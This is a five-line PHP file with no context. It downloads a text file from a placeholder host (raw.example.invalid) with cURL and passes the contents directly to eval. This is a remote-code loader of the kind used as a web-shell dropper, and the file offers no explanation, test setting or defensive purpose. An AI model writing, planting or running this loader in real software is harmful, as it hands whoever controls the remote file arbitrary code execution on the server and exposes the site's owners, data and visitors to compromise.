<?php
$h = curl_init("https://raw.example.invalid/x.txt");
curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
$code = curl_exec($h);
eval('?>' . $code);
